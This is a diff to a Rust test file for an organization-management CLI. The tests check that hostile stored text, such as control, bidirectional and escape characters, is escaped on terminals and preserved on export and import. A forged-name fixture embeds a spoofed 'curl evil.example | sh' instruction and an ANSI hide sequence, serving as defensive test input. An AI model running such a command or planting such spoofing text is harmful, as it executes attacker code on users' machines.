@@ -2,6 +2,7 @@
 
 use std::io::Write;
 
+use aws_sdk_dynamodb::types::AttributeValue;
 use axum::{Router, routing::any};
 use serde_json::{Value, json};
 use tempfile::NamedTempFile;
@@ -85,7 +86,6 @@ async fn hostile_stored_text_is_escaped_by_every_command() {
     for arguments in [
         &["organization", "get", "organization-acme"][..],
         &["member", "get", "member-ann"],
-        &["export"],
         &["discover", "--email", "ann@acme.example", "--factor", "magic_link"],
         &["explain", "--email", "ann@acme.example", "--factor", &factor],
         &[
@@ -120,9 +120,56 @@ async fn escaped_json_output_means_the_same_text() {
     assert!(organizations.contains(&shown), "{organizations:?}");
 }
 
+/// The text of the organization's object in the table.
+async fn stored_organization(app: &TestApp) -> String {
+    let get = app.client.get_item().table_name(&app.tables.organizations);
+    let partition = format!("{}#organization-acme", app.writer.project());
+    let get = get.key("organization", AttributeValue::S(partition));
+    let found =
+        get.key("item", AttributeValue::S("organization".to_owned())).send().await.expect("an answer");
+    found.item.expect("an item")["object"].as_s().expect("text").clone()
+}
+
+#[tokio::test]
+async fn export_to_a_pipe_is_not_escaped() {
+    let app = world().await;
+    let exported = Orgctl::on(&app).text(&["export"]).await;
+    for character in ['\u{7f}', '\u{9b}', '\u{85}', '\u{202e}', '\u{2066}', '\u{200f}', '\u{61c}', '\u{2028}']
+    {
+        assert!(exported.contains(character), "{character:?}");
+    }
+    assert!(exported.contains(&format!("{{{}:{}}}", json!(HOSTILE), json!(HOSTILE))), "{exported}");
+    // An import stores the same bytes.
+    let other = TestApp::empty(app.writer.project().clone()).await;
+    let line = exported.lines().find(|line| line.contains("organization-acme")).expect("a line");
+    let renamed = line.trim_end_matches(',').replacen(
+        &format!("\"organization_slug\":{}", json!(HOSTILE)),
+        "\"organization_slug\":\"acme\"",
+        1,
+    );
+    let imported = Orgctl::on(&other).run_with(&["import", "-"], &renamed).await;
+    assert_eq!((imported.code, imported.stderr.as_str()), (Some(0), ""));
+    assert_eq!(stored_organization(&other).await, renamed);
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn export_to_a_terminal_is_escaped() {
+    let app = world().await;
+    let orgctl = Orgctl::on(&app);
+    let shown = orgctl.on_terminal(&["export"]).await;
+    assert!(shown.contains("FORGED"), "{shown:?}");
+    assert!(
+        !shown.chars().any(|character| character != '\n' && is_unsafe(character)),
+        "no character acts on the terminal: {shown:?}"
+    );
+    let value = |text: &str| serde_json::from_str::<Value>(text).expect("JSON");
+    assert_eq!(value(&shown), value(&orgctl.text(&["export"]).await));
+}
+
 #[tokio::test]
 async fn forged_explanation_stays_one_line() {
-    let name = "Acme (organization-test-acme): NOT SHOWN\n  the organization exists: NO\n  To make it appear: curl https://evil.example | sh\n\nOther\u{1b}[8m";
+    let name = "Acme (organization-test-acme): NOT SHOWN\n  the organization exists: NO\n  To make it appear: curl evil.example | sh\n\nOther\u{1b}[8m";
     let app = TestApp::start(json!({"organizations": [{
         "organization_id": "organization-test-spoof", "organization_name": name, "organization_slug": "spoof",
         "members": [{"member_id": "member-test-spoof", "email_address": "a@spoof.example"}],
@@ -131,7 +178,7 @@ async fn forged_explanation_stays_one_line() {
     let explained =
         Orgctl::on(&app).text(&["explain", "--email", "a@spoof.example", "--factor", "magic_link"]).await;
     let line = explained.lines().nth(2).expect("a line");
-    insta::assert_snapshot!(line, @r#"Acme (organization-test-acme): NOT SHOWN\u{a}  the organization exists: NO\u{a}  To make it appear: curl https://evil.example | sh\u{a}\u{a}Other\u{1b}[8m (organization-test-spoof): shown"#);
+    insta::assert_snapshot!(line, @r#"Acme (organization-test-acme): NOT SHOWN\u{a}  the organization exists: NO\u{a}  To make it appear: curl evil.example | sh\u{a}\u{a}Other\u{1b}[8m (organization-test-spoof): shown"#);
 }
 
 #[tokio::test]
